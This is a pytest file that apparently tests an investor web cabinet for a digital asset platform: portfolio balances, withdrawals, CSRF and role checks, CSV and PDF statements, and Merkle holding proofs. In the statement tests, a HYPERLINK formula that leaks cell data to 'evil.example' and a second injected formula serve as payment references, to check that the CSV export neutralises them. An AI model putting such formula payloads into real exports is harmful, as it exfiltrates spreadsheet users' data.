"""The investor's pages over real HTTP: the portfolio with units and money free and held, money in and out (the
payment reference, bank accounts, withdrawals held at once and released on cancel), account statements as CSV and
PDF that reconcile, and the proof that a holding is counted in the signed daily report. Each investor sees and
acts on its own things only; staff and issuers are turned away; forms are CSRF-protected and change nothing when
refused."""

import csv
import io
import re
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import timedelta
from decimal import Decimal

import httpx
import pytest

from dfa.cabinet import i18n
from dfa.platform.identity.service.parties import local_today
from dfa.reconciliation import merkle
from dfa.reconciliation.service import runs
from tests.http import PROBLEM, post, problem_slug
from tests.identity import create_user, sign_in, signed_in_client
from tests.issuance.factories import make_emission, make_issuer
from tests.market import fund
from tests.pages import PAGE_HEADERS, csrf_token_of, text_of
from tests.reconciliation.test_exports import pdf_text
from tests.settlement.test_cash import new_iban

FUNDED_TIYN = 50_000_000  # 500,000.00 KZT
UNITS = 100
SELL = {"side": "sell", "price": 150_000, "quantity": 30}
BUY = {"side": "buy", "price": 90_000, "quantity": 10}
PAGES = ("/portfolio", "/money", "/statements")


@dataclass
class Visitor:
    """An investor of the test's own, so its balances are the test's to know: an API client (session cookie and
    CSRF header) and a browser (the cookie only: its forms carry the token the page gave them)."""

    login: str
    party_id: uuid.UUID
    api: httpx.Client
    browser: httpx.Client

    def balances(self, asset: str = "KZT") -> dict[str, int]:
        found = self.api.get("/v1/ledger/accounts", params={"asset": asset}).json()
        return {"available": 0, "held": 0} | {a["kind"]: a["balance"] for a in found}

    def withdrawals(self) -> list[dict]:
        return self.api.get("/v1/withdrawals", params={"limit": 500}).json()

    def submit(self, page: str, action: str, **fields: str) -> httpx.Response:
        """Fill in a form of `page` as a browser does: with the page's CSRF token."""
        return self.browser.post(action, data={"csrf_token": csrf_token_of(self.browser.get(page)), **fields})

    def close(self) -> None:
        self.api.close()
        self.browser.close()


async def new_visitor(server_url: str, database, settings) -> Visitor:
    login, _, party_id, _ = await create_user(database, settings, role="investor")
    api = signed_in_client(server_url, sign_in(server_url, login))
    browser = httpx.Client(base_url=server_url, timeout=30, headers={"Cookie": api.headers["Cookie"]})
    return Visitor(login, party_id, api, browser)


async def new_emission(database):
    async with database.unit_of_work() as session:
        return await make_emission(session, issuer=await make_issuer(session), units=1_000, nominal=100_000)


@dataclass
class Holder:
    visitor: Visitor
    code: str  # the registration number of the emission it holds


@pytest.fixture(scope="module")
async def holder(server_url, database, settings) -> AsyncIterator[Holder]:
    """An investor with 500,000.00 KZT and 100 units of a new emission, 30 of them offered in an open sell order
    and 10 more bid for with an open buy order below it (which holds money)."""
    visitor = await new_visitor(server_url, database, settings)
    emission = await new_emission(database)
    await fund(database, settings, visitor.party_id, money=FUNDED_TIYN)
    await fund(
        database, settings, visitor.party_id, units={emission.registration_number: UNITS}, issuer_id=emission.issuer_party_id
    )
    for order in (SELL, BUY):
        placed = post(visitor.api, "/v1/orders", {"base": emission.registration_number, **order})
        assert placed.status_code == 201 and placed.json()["order"]["status"] == "open", placed.text
    yield Holder(visitor, emission.registration_number)
    visitor.close()


@pytest.fixture
async def newcomer(server_url, database, settings) -> AsyncIterator[Visitor]:
    """An investor who holds nothing yet."""
    visitor = await new_visitor(server_url, database, settings)
    yield visitor
    visitor.close()


@pytest.fixture(scope="module")
def payee(holder, users) -> int:
    """The holder's bank account, verified by staff: where its withdrawals go."""
    registered = post(holder.visitor.api, "/v1/bank-accounts", {"iban": new_iban(), "holder_name": "Aigerim Sadykova"})
    assert registered.status_code == 201, registered.text
    verified = post(users.client("operator_admin"), f"/v1/bank-accounts/{registered.json()['id']}/verification",
                    {"evidence": "bank's confirmation letter"})
    assert verified.status_code == 200, verified.text
    return registered.json()["id"]


def shown(tiyn: int) -> str:
    """An amount as the English pages show it, read as text."""
    with i18n.speaking(i18n.LANGUAGES["en"]):
        return " ".join(i18n.kzt(tiyn).split())


def typed(tiyn: int) -> str:
    """An amount as an English-speaking investor types it."""
    return f"{Decimal(tiyn).scaleb(-2):,}"


def section(page: httpx.Response, name: str) -> str:
    return re.search(rf'<section id="{name}".*?</section>', page.text, re.DOTALL)[0]


def text_of_part(page: httpx.Response, pattern: str) -> str:
    """What a reader reads in the part of the page `pattern` matches."""
    return text_of(httpx.Response(200, text=re.search(pattern, page.text, re.DOTALL)[0]))


# The portfolio


def test_the_portfolio_shows_units_and_money_available_and_held_after_open_orders_REQ_38(holder):
    """REQ-38: an open order holds what it may deliver (prefunding), and the portfolio shows it apart."""
    units, money = holder.visitor.balances(holder.code), holder.visitor.balances()

    page = holder.visitor.api.get("/portfolio")

    assert page.status_code == 200, page.text
    assert (units["available"], units["held"]) == (UNITS - SELL["quantity"], SELL["quantity"])
    assert money["held"] >= BUY["price"] * BUY["quantity"] and money["available"] + money["held"] == FUNDED_TIYN
    assert text_of_part(page, rf'<tr id="holding-{holder.code}">.*?</tr>') == (
        f"{holder.code} Test grain receipts 70 30 1,000.00 KZT 100,000.00 KZT Check that it is counted"
    )
    assert f"Available {shown(money['available'])} Held {shown(money['held'])}" in text_of(page)
    assert f'href="/proofs/{holder.code}"' in page.text
    assert "<caption>" in page.text and '<th scope="col"' in page.text


def test_another_investors_holdings_never_appear_on_the_portfolio(holder, users):
    """REQ-54: a client is authorised for its own holdings only."""
    page = users.client("other_investor").get("/portfolio")

    assert page.status_code == 200
    assert holder.code not in page.text and shown(holder.visitor.balances()["held"]) not in text_of(page)


def test_a_new_investor_is_told_how_to_come_to_hold_dfa(newcomer):
    page = newcomer.api.get("/portfolio")

    assert page.status_code == 200
    assert "You hold no DFA yet." in text_of(page)
    assert 'href="/catalogue"' in page.text and 'href="/money"' in page.text
    assert "You have no wallet address yet." in text_of(page)


def test_the_portfolio_lists_the_investors_wallet_addresses_and_never_a_key_REQ_40_REQ_43(newcomer):
    """REQ-40: the client sees its wallet addresses; REQ-43: never a key or mnemonic."""
    opened = post(newcomer.api, "/v1/wallet-addresses", {})
    assert opened.status_code == 201, opened.text

    page = newcomer.api.get("/portfolio")

    assert opened.json()["address"] in page.text and opened.json()["path"] in text_of(page)
    assert not re.search(r"mnemonic|private key|xprv", page.text, re.IGNORECASE)


@pytest.mark.parametrize("role", ["compliance_officer", "operator_admin", "auditor", "issuer"])
def test_staff_and_issuers_are_turned_away_from_the_investor_pages(role, users):
    """REQ-54: every page is authorised by role."""
    client = users.client(role)

    answers = [client.get(path) for path in (*PAGES, "/statements/download", "/proofs/KZ0000")]
    answers.append(client.post("/money/withdrawals", data={"bank_account_id": "1", "amount": "1"}))

    assert [(a.status_code, problem_slug(a)) for a in answers] == [(403, "forbidden")] * len(answers)


@pytest.mark.parametrize("path", PAGES)
def test_every_investor_page_forbids_scripts_framing_sniffing_and_caching(path, holder):
    page = holder.visitor.api.get(path)

    assert page.status_code == 200, page.text
    assert {name: page.headers[name] for name in PAGE_HEADERS} == PAGE_HEADERS
    assert "<script" not in page.text and "style=" not in page.text and "<style" not in page.text


# Money in and out


def test_the_money_page_says_where_to_pay_in_with_the_investors_own_payment_reference(holder, settings):
    reference = holder.visitor.api.get("/v1/payment-reference").json()

    deposit = section(holder.visitor.api.get("/money"), "deposit")

    for shown_value in (reference["reference"], settings.operator_client_money_iban, settings.operator_bank_bic):
        assert shown_value in deposit
    assert "bank's statement" in deposit


def test_an_investor_registers_a_bank_account_and_sees_it_wait_for_verification(holder):
    iban = new_iban()
    spaced = " ".join(iban[i:i + 4] for i in range(0, len(iban), 4)).lower()

    answer = holder.visitor.submit("/money", "/money/bank-accounts", iban=spaced, holder_name="Aigerim Sadykova")

    assert (answer.status_code, answer.headers["location"]) == (303, "/money#bank-accounts")
    listed = section(holder.visitor.api.get("/money"), "bank-accounts")
    assert iban in listed and "Aigerim Sadykova" in listed and "unverified" in listed


def test_a_mistyped_iban_is_refused_beside_the_field_and_nothing_is_registered(holder):
    before = holder.visitor.api.get("/v1/bank-accounts").json()
    iban = new_iban()
    mistyped = iban[:-1] + str((int(iban[-1]) + 1) % 10)  # one digit off: the check digits catch it

    answer = holder.visitor.submit("/money", "/money/bank-accounts", iban=mistyped, holder_name="Aigerim Sadykova")

    assert answer.status_code == 422 and answer.headers["content-type"].startswith("text/html")
    assert 'id="iban-error"' in answer.text and re.search(r'id="iban"[^>]*aria-invalid="true"', answer.text, re.DOTALL)
    assert "Nothing was changed" in answer.text
    assert 'value="Aigerim Sadykova"' in answer.text  # what was typed stays
    assert holder.visitor.api.get("/v1/bank-accounts").json() == before


def test_a_withdrawal_request_holds_the_money_and_its_cancel_releases_it_REQ_38(holder, payee):
    """REQ-38: what is paid out is held from the request on, so it cannot be spent twice."""
    visitor, before = holder.visitor, holder.visitor.balances()

    requested = visitor.submit("/money", "/money/withdrawals", bank_account_id=str(payee), amount="1,500.50")
    [withdrawal] = [w for w in visitor.withdrawals() if w["status"] == "requested"]
    held = visitor.balances()
    row = section(visitor.api.get("/money"), "withdrawals")
    cancelled = visitor.submit("/money", f"/money/withdrawals/{withdrawal['id']}/cancel")

    assert (requested.status_code, requested.headers["location"]) == (303, "/money#withdrawals")
    assert withdrawal["amount_tiyn"] == 150_050 and withdrawal["bank_account_id"] == payee
    assert held == {"available": before["available"] - 150_050, "held": before["held"] + 150_050}
    assert f'action="/money/withdrawals/{withdrawal["id"]}/cancel"' in row and "requested" in row
    assert (cancelled.status_code, cancelled.headers["location"]) == (303, f"/money#withdrawal-{withdrawal['id']}")
    assert visitor.balances() == before
    assert visitor.api.get(f"/v1/withdrawals/{withdrawal['id']}").json()["status"] == "cancelled"


@pytest.mark.parametrize("amount", ["over", "12.345", "twelve", ""])
def test_an_amount_over_the_money_available_or_unreadable_is_refused_beside_the_field_with_nothing_held(
    amount, holder, payee
):
    visitor, before = holder.visitor, holder.visitor.balances()
    withdrawals = visitor.withdrawals()
    typed_amount = typed(before["available"] + 1) if amount == "over" else amount

    answer = visitor.submit("/money", "/money/withdrawals", bank_account_id=str(payee), amount=typed_amount)

    assert answer.status_code == 422, answer.text
    assert 'id="amount-error"' in answer.text
    assert re.search(r'id="amount"[^>]*aria-invalid="true"', answer.text, re.DOTALL)
    reason = "That is more than the money you have available." if amount == "over" else "Enter the amount in tenge"
    assert reason in text_of(answer)
    assert visitor.balances() == before and visitor.withdrawals() == withdrawals


def test_a_withdrawal_form_sent_twice_withdraws_once(holder, payee):
    visitor, before = holder.visitor, holder.visitor.balances()
    form = visitor.browser.get("/money")
    fields = {"csrf_token": csrf_token_of(form), "bank_account_id": str(payee), "amount": "10",
              "withdrawal_id": re.search(r'name="withdrawal_id" value="([^"]+)"', form.text)[1]}

    answers = [visitor.browser.post("/money/withdrawals", data=fields) for _ in range(2)]

    assert [a.status_code for a in answers] == [303, 303]
    assert visitor.balances()["held"] == before["held"] + 1_000
    assert visitor.api.get(f"/v1/withdrawals/{fields['withdrawal_id']}").json()["amount_tiyn"] == 1_000
    assert visitor.submit("/money", f"/money/withdrawals/{fields['withdrawal_id']}/cancel").status_code == 303


def test_a_money_form_without_the_sessions_csrf_token_is_refused_and_changes_nothing(holder, payee):
    visitor, before = holder.visitor, holder.visitor.balances()
    accounts_before, withdrawals = visitor.api.get("/v1/bank-accounts").json(), visitor.withdrawals()

    forged = [
        visitor.browser.post("/money/bank-accounts", data={"iban": new_iban(), "holder_name": "Someone Else"}),
        visitor.browser.post("/money/withdrawals", data={"bank_account_id": str(payee), "amount": "100",
                                                          "csrf_token": "x" * 43}),
    ]

    assert [(r.status_code, problem_slug(r)) for r in forged] == [(403, "csrf-token-invalid")] * 2
    assert visitor.api.get("/v1/bank-accounts").json() == accounts_before
    assert (visitor.balances(), visitor.withdrawals()) == (before, withdrawals)


def test_another_investors_withdrawal_answers_as_one_that_does_not_exist(holder, payee, users):
    """REQ-54: another owner's withdrawal and bank account are "not found", exactly as ids nobody has."""
    visitor = holder.visitor
    assert visitor.submit("/money", "/money/withdrawals", bank_account_id=str(payee), amount="5").status_code == 303
    [withdrawal] = [w for w in visitor.withdrawals() if w["status"] == "requested"]
    other = users.client("other_investor")

    theirs = other.post(f"/money/withdrawals/{withdrawal['id']}/cancel")
    nobodys = other.post(f"/money/withdrawals/{uuid.uuid4()}/cancel")
    to_their_account = other.post("/money/withdrawals", data={"bank_account_id": str(payee), "amount": "5"})

    assert [(r.status_code, problem_slug(r)) for r in (theirs, nobodys)] == [(404, "withdrawal-not-found")] * 2
    assert (to_their_account.status_code, problem_slug(to_their_account)) == (404, "bank-account-not-found")
    assert payee_iban(visitor, payee) not in other.get("/money").text
    assert visitor.api.get(f"/v1/withdrawals/{withdrawal['id']}").json()["status"] == "requested"
    assert visitor.submit("/money", f"/money/withdrawals/{withdrawal['id']}/cancel").status_code == 303


def payee_iban(visitor: Visitor, bank_account_id: int) -> str:
    return visitor.api.get(f"/v1/bank-accounts/{bank_account_id}").json()["iban"]


# Statements


def test_the_statement_form_offers_this_month_so_far_as_csv_or_pdf(holder, settings):
    today = local_today(settings)

    page = holder.visitor.api.get("/statements")

    assert page.status_code == 200
    assert f'value="{today.replace(day=1).isoformat()}"' in page.text and f'value="{today.isoformat()}"' in page.text
    assert '<form method="get" action="/statements/download">' in page.text
    assert '<option value="csv" selected>' in page.text and '<option value="pdf">' in page.text
    assert '<label for="from">' in page.text and '<label for="to">' in page.text


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")'


@pytest.fixture
async def statement_holder(newcomer, database, settings) -> Visitor:
    """A new investor credited 2,000.00 KZT under a reference a spreadsheet would run, and 0.50 KZT under one
    starting with a tab, who then buys nothing but bids for units (money held)."""
    emission = await new_emission(database)
    await fund(database, settings, newcomer.party_id, money=200_000, reference=FORMULA)
    await fund(database, settings, newcomer.party_id, money=50, reference="\t=1+2")
    placed = post(newcomer.api, "/v1/orders", {"base": emission.registration_number, "side": "buy", "price": 1_000,
                                               "quantity": 5})
    assert placed.status_code == 201, placed.text
    return newcomer


def test_the_csv_statement_reconciles_and_no_cell_runs_as_a_formula(statement_holder, settings):
    today = local_today(settings).isoformat()

    answer = statement_holder.api.get("/statements/download", params={"from": today, "to": today, "format": "csv"})

    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == f'attachment; filename="statement-{today}-{today}.csv"'
    assert answer.content.startswith(b"\xef\xbb\xbf")
    header, *rows = csv.reader(io.StringIO(answer.content.decode("utf-8-sig")))
    assert header == ["Asset", "Account", "Date", "Description", "Reference", "Debit", "Credit", "Balance"]
    accounts = {}
    for row in rows:
        accounts.setdefault((row[0], row[1]), []).append(row)
    for lines in accounts.values():
        opening, *movements, closing = lines
        assert (opening[3], closing[3]) == ("Opening balance", "Closing balance")
        balance = Decimal(opening[7])
        for line in movements:
            balance += Decimal(line[6] or 0) - Decimal(line[5] or 0)
            assert Decimal(line[7]) == balance
        assert Decimal(closing[7]) == balance
    money = statement_holder.balances()
    assert Decimal(accounts[("KZT", "Available")][-1][7]) == Decimal(money["available"]).scaleb(-2)
    assert Decimal(accounts[("KZT", "Held")][-1][7]) == Decimal(money["held"]).scaleb(-2)
    references = [line[4] for line in accounts[("KZT", "Available")]]
    assert "'" + FORMULA in references and "'\t=1+2" in references
    assert accounts[("KZT", "Available")][1][6] == "2000.00"


def test_the_pdf_statement_is_a_pdf_in_the_visitors_language(statement_holder, settings):
    today = local_today(settings).isoformat()

    answer = statement_holder.api.get(
        "/statements/download", params={"from": today, "to": today, "format": "pdf", "lang": "ru"}
    )

    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "application/pdf"
    assert answer.headers["content-disposition"] == f'attachment; filename="statement-{today}-{today}.pdf"'
    pdf = answer.content
    assert pdf.startswith(b"%PDF-") and pdf.rstrip().endswith(b"%%EOF")
    assert int(re.search(rb"/Count (\d+)", pdf)[1]) >= 1
    text = pdf_text(pdf)
    assert "2 000,00" in text.replace("\xa0", " ")  # Russian grouping and decimal comma
    assert FORMULA in text.replace("\n", "")  # a PDF runs nothing: the reference is shown as it is, wrapped


@pytest.mark.parametrize(("query", "field", "reason"), [
    ({"from": "2026-02-10", "to": "2026-02-01"}, "to", "The period ends before it starts."),
    ({"from": "2024-01-01", "to": "2025-01-01"}, "to", "A statement covers at most 366 days."),
    ({"to": "tomorrow"}, "to", "The period cannot end after today."),
    ({"from": "01.02.2026"}, "from", "Enter the date as YYYY-MM-DD."),
    ({"format": "xlsx"}, "format", "Choose CSV or PDF."),
])
def test_a_statement_of_a_bad_period_is_refused_beside_the_field(query, field, reason, holder, settings):
    today = local_today(settings)
    asked = {"from": today.replace(day=1).isoformat(), "to": today.isoformat(), "format": "csv", **query}
    if asked["to"] == "tomorrow":
        asked["to"] = (today + timedelta(days=1)).isoformat()

    answer = holder.visitor.api.get("/statements/download", params=asked)

    assert answer.status_code == 422 and answer.headers["content-type"].startswith("text/html")
    assert f'id="{field}-error"' in answer.text and reason in text_of(answer)
    assert "content-disposition" not in answer.headers


# Proofs of holding


@pytest.fixture(scope="module")
async def report(app, database, settings, holder):
    """Today's reconciliation report, written after the holder came to hold its units."""
    result = await runs.reconcile_day(
        database, day=local_today(settings), trigger="command", requested_by="test", force=True,
        counterparties=runs.Counterparties(custodian=app.state.custodian, bank=app.state.bank, mirror=None),
        keys=app.state.keys, settings=settings,
    )
    return result.report


def _proof_on(page: httpx.Response, code: str) -> merkle.Proof:
    """The proof as the page shows it, read back into the verifier's terms."""
    def shown_value(name: str) -> str:
        return re.search(rf'id="{name}">([^<]+)<', page.text)[1]

    def number(name: str) -> int:
        return int(shown_value(name).replace(",", ""))

    path_table = re.search(r'id="path-title".*?</section>', page.text, re.DOTALL)[0]
    steps = re.findall(r'<code class="hash">([0-9a-f]{64})</code></td>\s*<td class="number">([0-9,]+)</td>', path_table)
    leaf_count = number("leaf-count")
    return merkle.Proof(
        report_id=int(re.search(r"Report id</dt><dd>(\d+)</dd>", page.text)[1]), asset_code=code,
        leaf=merkle.Leaf(number("leaf-account"), number("leaf-quantity"), bytes.fromhex(shown_value("leaf-nonce"))),
        index=number("leaf-index"), leaf_count=leaf_count,
        path=tuple(merkle.ProofStep(bytes.fromhex(h), int(s.replace(",", ""))) for h, s in steps),
        root=merkle.Root(bytes.fromhex(shown_value("root-hash")), number("root-total"), leaf_count),
    )


def test_the_proof_page_shows_a_proof_that_verifies_against_the_published_root(holder, report):
    client = holder.visitor.api
    [published] = [r for r in client.get(f"/v1/reconciliation/emissions/{holder.code}/holder-roots").json()
                   if r["report_id"] == report.id]
    [units] = client.get("/v1/ledger/accounts", params={"asset": holder.code, "limit": 1}).json()

    page = client.get(f"/proofs/{holder.code}")

    assert page.status_code == 200, page.text
    proof = _proof_on(page, holder.code)
    assert (proof.report_id, proof.leaf.account_id, proof.leaf.quantity) == (report.id, units["id"], UNITS)
    verdict = merkle.verify(proof, root_hash=bytes.fromhex(published["root_hash"]), total=published["total_units"])
    assert verdict.ok, verdict.reason
    assert report.content_sha256.hex() in page.text
    assert f'href="/v1/reconciliation/reports/{report.id}/proofs/{holder.code}"' in page.text
    assert client.get(f"/v1/reconciliation/reports/{report.id}/proofs/{holder.code}").json() == proof.to_json()


def test_the_proof_page_says_plainly_when_no_report_counts_the_investors_holding(holder, report, users):
    not_held = users.client("other_investor").get(f"/proofs/{holder.code}")

    assert not_held.status_code == 200
    assert "counts no holding of yours" in text_of(not_held) and 'id="root-hash"' not in not_held.text


async def test_the_proof_page_of_an_emission_no_report_has_counted_yet_says_when_one_will(holder, report, database):
    emission = await new_emission(database)

    page = holder.visitor.api.get(f"/proofs/{emission.registration_number}")

    assert page.status_code == 200
    assert "No reconciliation report has counted the holders" in text_of(page)


def test_an_unknown_emission_has_no_proof_page(holder):
    page = holder.visitor.api.get("/proofs/NO-SUCH-EMISSION")

    assert (page.status_code, page.headers["content-type"]) == (404, PROBLEM)
